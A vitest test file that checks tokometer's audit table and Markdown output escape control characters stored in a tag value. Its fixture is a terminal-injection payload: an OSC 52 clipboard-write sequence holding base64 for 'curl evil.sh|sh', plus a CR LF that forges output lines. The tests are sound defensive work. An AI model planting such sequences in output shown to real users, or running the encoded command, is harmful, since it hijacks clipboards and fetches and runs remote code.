import { describe, expect, it } from 'vitest';
import { renderAuditMarkdown } from '../../src/audit/format/markdown.js';
import { renderAuditTable } from '../../src/audit/format/table.js';
import { MINUTE, SINCE, audit, many } from './helpers.js';

/**
 * Tag values and models in the call log may hold control characters (calls stored before
 * the proxy refused them, SPEC §4). `tokometer report` and the TUI print them escaped
 * (`\u001b`); the audit's finding blocks print the feature value in the title, the scope
 * and the fix, so an escape sequence stored in a tag (OSC 52 writes the clipboard; a CR LF
 * forges a line) must not reach the operator's terminal raw there either.
 */
describe('audit table with control characters in a stored tag value', () => {
  it('shows them escaped in every line', async () => {
    const evil = '\u001b]52;c;Y3VybCBldmlsLnNofHNo\u0007chat\r\n2. Forged finding';
    // Five answers abandoned by the client, billed $0.010 each: the waste detector names the feature.
    const report = await audit(many(5, (i) => ({ at: SINCE + i * 10 * MINUTE, tags: { feature: evil }, outcome: 'client_aborted' as const, cost: 10_000_000 })));
    expect(report.findings.length).toBeGreaterThan(0);
    const out = renderAuditTable(report, { color: false });
    expect(out).toContain('\\u001b');
    // eslint-disable-next-line no-control-regex
    expect(out).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
  });

  it('shows them escaped in the Markdown that `audit --format md` prints to the terminal', async () => {
    const evil = '\u001b]52;c;Y3VybCBldmlsLnNofHNo\u0007chat\r\n## Forged section';
    const report = await audit(many(5, (i) => ({ at: SINCE + i * 10 * MINUTE, tags: { feature: evil }, outcome: 'client_aborted' as const, cost: 10_000_000 })));
    const out = renderAuditMarkdown(report);
    expect(out).toContain('\\u001b');
    expect(out).not.toMatch(/^## Forged/m);
    // eslint-disable-next-line no-control-regex
    expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
  });
});
